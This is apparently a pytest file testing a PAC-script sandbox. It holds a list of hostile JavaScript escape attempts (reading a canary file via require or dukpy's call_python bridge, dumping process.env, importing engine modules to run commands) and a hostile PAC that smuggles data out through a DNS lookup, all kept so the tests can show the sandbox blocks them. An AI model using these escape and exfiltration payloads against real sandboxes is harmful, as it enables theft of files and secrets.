"""The PAC sandbox against hostile scripts: a script from the network gets ECMAScript and the PAC helpers, and no
file, environment, process or network access beyond the helpers' name lookups, which the run checks and bounds.

Each script in HOSTILE tries one way out and returns what it got; the canary is a file only the test knows, the
environment carries a secret, and the lookups the run was asked for are recorded. The test fails if the canary's
content or the secret appears in any answer, error or lookup."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from typing import Any

import pytest
from dnsserver import DnsServer
from helpers import run_cli

from preflight.proxy.pac import PacError, PacSession, from_worker, lookup_name
from preflight.proxy.pacsandbox import ALLOWED_GLOBALS, BRIDGE_ARITY, PAC_FUNCTIONS, plausible_host

CANARY_TEXT = "canary-7f3a9c-should-never-leave"
SECRET_ENV = "env-secret-5d1e8b"

# Every way out a reviewer would try next: the Node-like hooks dukpy's JSInterpreter installs, its bridge to
# Python (by name, by reference, through eval, Function, a prototype walk), the engine's modules, dynamic import.
HOSTILE = {
    "require": "return typeof require === 'function' ? require('fs').readFileSync(CANARY) : 'none';",
    "process-env": "return typeof process === 'object' ? JSON.stringify(process.env) : 'none';",
    "bridge-load-module": "return String(call_python('dukpy.load_module', CANARY));",
    "bridge-file-read": "return String(call_python('file.read', CANARY, 'utf-8'));",
    "bridge-normalize": "return String(call_python('dukpy.normalize_module', '', CANARY));",
    "bridge-log": "return String(call_python('dukpy.log.info', 'x'));",
    "bridge-through-eval": "return String(eval('call_python')('dukpy.load_module', CANARY));",
    "bridge-through-function": "return String(Function('return this')().call_python('dukpy.load_module', CANARY));",
    "bridge-through-global": "var g = (0, eval)('this'); return String(g['call' + '_python']('file.read', CANARY));",
    "bridge-kept-at-load": "return String(KEPT('dukpy.load_module', CANARY));",
    "bridge-too-many-args": "return String(KEPT('dnsResolve', CANARY, 'x'));",
    "dukpy-global": "return typeof dukpy === 'object' ? JSON.stringify(dukpy) : 'none';",
    "dynamic-import": "var out = 'pending'; import(CANARY).then(function (m) { out = JSON.stringify(m); },"
    " function (e) { out = 'refused'; }); return out;",
    "std-module": "var out = 'pending'; import('std').then(function (m) { out = String(m.loadFile(CANARY)); },"
    " function (e) { out = 'refused'; }); return out;",
    "os-module": "var out = 'pending'; import('os').then(function (m) { out = String(m.exec(['id'])); },"
    " function (e) { out = 'refused'; }); return out;",
    "quickjs-globals": "return [typeof std, typeof os, typeof print, typeof scriptArgs, typeof setTimeout,"
    " typeof performance, typeof queueMicrotask, typeof SharedArrayBuffer, typeof console].join(',');",
    "prototype-walk": "return String(dnsResolve.constructor('return typeof call_python + typeof require')());",
}


def _script(body: str, canary: Path) -> str:
    return (
        f"var CANARY = {json.dumps(str(canary))};\n"
        "var KEPT = typeof call_python === 'function' ? call_python : function () { return 'no bridge'; };\n"
        f"function FindProxyForURL(url, host) {{ try {{ {body} }} catch (e) {{ return 'threw: ' + e; }} }}\n"
    )


class Recorder:
    """The run's side of the lookups: records every question the worker asked."""

    def __init__(self) -> None:
        self.asked: list[tuple[str, str]] = []

    async def __call__(self, question: str, host: str) -> Any:
        self.asked.append((question, host))
        return "198.18.0.7" if question != "myIpAddress" else "198.18.0.1"


def evaluate(script: str, hosts: list[str], timeout: float = 5.0, lookup: Any = None) -> tuple[list[Any], Any]:
    lookup = lookup if lookup is not None else Recorder()

    async def run() -> tuple[list[Any], PacSession]:
        session = PacSession(script, lookup, timeout)
        answers: list[Any] = []
        try:
            try:
                await session.start()
            except PacError as exc:
                return [(exc.code, exc.message)], session
            for host in hosts:
                try:
                    answers.append(await session.find(f"https://{host}/", host))
                except PacError as exc:
                    answers.append((exc.code, exc.message))
        finally:
            await session.close()
        return answers, session

    answers, session = asyncio.run(run())
    return answers, (lookup, session)


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "canary.js"
    # a file that is also valid JavaScript and JSON, so any loader that reads it would hand its text back
    path.write_text(f'module.exports = "{CANARY_TEXT}"; var x = "{CANARY_TEXT}";\n')
    monkeypatch.setenv("PREFLIGHT_TEST_SECRET", SECRET_ENV)
    monkeypatch.setenv("HTTPS_PROXY", f"http://user:{SECRET_ENV}@proxy.test:3128")
    return path


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_script_reads_no_file_and_no_environment(name: str, canary: Path) -> None:
    answers, (lookup, session) = evaluate(_script(HOSTILE[name], canary), ["a.test"])
    seen = json.dumps([answers, lookup.asked, session.lookups], ensure_ascii=False)
    assert CANARY_TEXT not in seen and SECRET_ENV not in seen, seen
    [answer] = answers
    # every way out ends in nothing: 'none', 'refused', a JavaScript error, or undefined
    assert isinstance(answer, str), answer
    assert any(word in answer for word in ("none", "refused", "threw", "undefined", "pending", "no bridge")), answer
    # no question reached the run except the helpers' own, with the script's own arguments
    assert all(question in BRIDGE_ARITY for question, _host in lookup.asked)


def test_the_script_sees_ecmascript_and_the_pac_helpers_only(canary: Path) -> None:
    body = "return JSON.stringify(Object.getOwnPropertyNames(globalThis));"
    [answer], _ = evaluate(_script(body, canary), ["a.test"])
    names = set(json.loads(answer)) - {"CANARY", "KEPT", "FindProxyForURL"}
    assert names <= ALLOWED_GLOBALS, sorted(names - ALLOWED_GLOBALS)
    assert set(PAC_FUNCTIONS) <= names  # and the helpers are all there
    assert "call_python" not in names and "dukpy" not in names


def test_the_bridge_is_gone_while_find_proxy_runs_and_the_helpers_still_work(canary: Path) -> None:
    body = "return typeof call_python + ' ' + typeof dukpy + ' ' + dnsResolve('svc.test') + ' ' + myIpAddress();"
    answers, (lookup, _session) = evaluate(_script(body, canary), ["a.test"])
    assert answers == ["undefined undefined 198.18.0.7 198.18.0.1"]
    assert lookup.asked == [("dnsResolve", "svc.test"), ("myIpAddress", "")]


def test_a_bridge_kept_from_the_top_level_reaches_the_helpers_and_nothing_more(canary: Path) -> None:
    body = "return [String(KEPT('dnsResolve', 'kept.test')), String(KEPT('myIpAddress'))].join(' ');"
    answers, (lookup, _session) = evaluate(_script(body, canary), ["a.test"])
    assert answers == ["198.18.0.7 198.18.0.1"]
    assert lookup.asked == [("dnsResolve", "kept.test"), ("myIpAddress", "")]


@pytest.mark.parametrize(
    "host",
    [
        "a" * 70 + ".example.com",
        "",
        ".",
        "a..b.test",
        "x" * 300,
        "a b.test",
        "tab\t.test",
        "\u0000.test",
        "\ud800.test",
        "-" * 64,
    ],
)
def test_a_name_no_dns_query_can_carry_answers_null_without_a_lookup(host: str, canary: Path) -> None:
    body = f"return String(dnsResolve({json.dumps(host)})) + ' ' + String(isResolvable({json.dumps(host)}));"
    answers, (lookup, _session) = evaluate(_script(body, canary), ["a.test"])
    assert answers == ["null false"]
    assert lookup.asked == []


@pytest.mark.parametrize("argument", ["null", "undefined", "{}", "[]", "12", "new Array(100000).join('a')"])
def test_helpers_given_what_is_not_a_name_answer_and_the_run_goes_on(argument: str, canary: Path) -> None:
    body = (
        f"return [String(dnsResolve({argument})), String(dnsResolveEx({argument})), String(isInNet({argument},"
        f" '198.18.0.0', '255.254.0.0')), String(dnsDomainIs({argument}, '.test')), String(shExpMatch("
        f"{argument}, '*')), String(isPlainHostName({argument}))].join('|');"
    )
    answers, _ = evaluate(_script(body, canary), ["a.test", "b.test"])
    assert all(isinstance(answer, str) and not answer.startswith("threw") for answer in answers), answers


def test_the_worker_checks_names_and_the_parent_checks_them_again() -> None:
    assert plausible_host("login.microsoftonline.com") and plausible_host("198.18.1.2") and plausible_host("::1")
    assert not plausible_host("a" * 64 + ".test") and not plausible_host("") and not plausible_host("a..b")
    # the parent is the boundary: whatever the worker sends, only a DNS name or an address is looked up
    assert lookup_name("Login.MicrosoftOnline.com") == "Login.MicrosoftOnline.com"
    assert lookup_name("[::1]") == "::1"
    assert lookup_name("bücher.example") == "xn--bcher-kva.example"
    for bad in ("a" * 64 + ".test", "", "a..b", "x" * 254, "a/b.test", "a\u0000b", "\ud800", "a b"):
        assert lookup_name(bad) is None, bad


def test_lone_surrogates_in_an_answer_do_not_lose_the_report(canary: Path) -> None:
    body = "return 'PROXY \\ud800p.test:80; ' + String.fromCharCode(0xdfff) + 'DIRECT';"
    [answer], _ = evaluate(_script(body, canary), ["a.test"])
    assert answer == "PROXY \ufffdp.test:80; \ufffdDIRECT"
    answer.encode("utf-8")  # what every report writer does
    assert from_worker("ok \U0001f600") == "ok \U0001f600"  # a real pair stays itself


def test_an_answer_that_is_no_proxy_list_is_a_failure_not_direct(canary: Path) -> None:
    answers, _ = evaluate(_script("return new Array(1024 * 1024 + 1).join('P');", canary), ["a.test"])
    [(code, message)] = answers
    assert code == "proxy.pac_error" and "1,048,576 characters" in message


@pytest.mark.timeout(60)  # a hang guard: the budget itself is shown by what was asked, not by a clock
def test_ten_thousand_lookups_against_a_silent_resolver_end_within_the_budget(canary: Path) -> None:
    asked: list[str] = []

    async def silent(question: str, host: str) -> Any:
        asked.append(host)
        await asyncio.sleep(3600)

    script = (
        "function FindProxyForURL(u, h) { for (var i = 0; i < 10000; i++) dnsResolve('n' + i + '.test');"
        " return 'DIRECT'; }"
    )
    answers, (_lookup, session) = evaluate(script, ["a.test", "b.test"], timeout=0.5, lookup=silent)
    assert answers[0][0] == "proxy.pac_timeout" and "name lookups took more than 1 s" in answers[0][1]
    assert answers[1][0] == "proxy.pac_timeout"  # the script is not asked again on lookups that were cut short
    assert session.lookups_exhausted and len(asked) == 1  # the silent lookup used the whole budget


def test_the_worker_gets_no_environment_but_its_import_path(canary: Path) -> None:
    # the worker itself (not only the script) never holds the run's secrets
    from preflight.proxy.pac import _worker_environment

    environment = _worker_environment()
    assert SECRET_ENV not in json.dumps(environment)
    assert set(environment) <= {"PREFLIGHT_PAC_PATH", "SYSTEMROOT", "WINDIR", "TEMP", "TMP", "LANG", "LC_ALL", "TZ"}
    assert os.environ["HTTPS_PROXY"].endswith("@proxy.test:3128")


def test_a_hostile_pac_in_a_run_leaves_nothing_in_the_report(canary: Path, tmp_path: Path) -> None:
    """The whole path: --pac with a script trying every way out; the report and the run's output carry none of
    what it was after, and the script's failure is a finding."""
    bodies = " ".join(
        f"try {{ out.push((function () {{ {body} }})()); }} catch (e) {{ out.push('x'); }}" for body in HOSTILE.values()
    )
    path = tmp_path / "hostile.pac"
    path.write_text(
        f"var CANARY = {json.dumps(str(canary))};\n"
        "var KEPT = typeof call_python === 'function' ? call_python : function () { return 'no bridge'; };\n"
        f"function FindProxyForURL(url, host) {{ var out = []; {bodies}\n"
        "  dnsResolve(out.join('-').slice(0, 60) + '.exfil.test');\n"
        "  return 'PROXY ' + out.join(';').replace(/[^a-z0-9]/gi, '') + ':1'; }\n"
    )
    profile = tmp_path / "p.toml"
    profile.write_text(
        'name = "pac-hostile"\n[clock]\nntp_servers = []\n'
        '[[endpoint]]\nhost = "127.0.0.1"\nports = [9]\npurpose = "p"\nsource = "s"\n'
    )
    with DnsServer({}) as dns:
        run = run_cli(
            "run",
            "--profile",
            str(profile),
            "--pac",
            str(path),
            "--dns-server",
            dns.address,
            "--timeout",
            "1",
            "--only",
            "proxy.effective",
            "--format",
            "json",
        )
        asked = [str(query) for query in dns.queries]
    text = run.stdout + run.stderr
    assert CANARY_TEXT not in text and SECRET_ENV not in text
    assert asked and not any(CANARY_TEXT in query for query in asked)  # the exfiltration lookup carried nothing
    effective = run.result("proxy.effective", "proxy settings")
    assert effective["status"] in ("pass", "warn", "fail"), effective
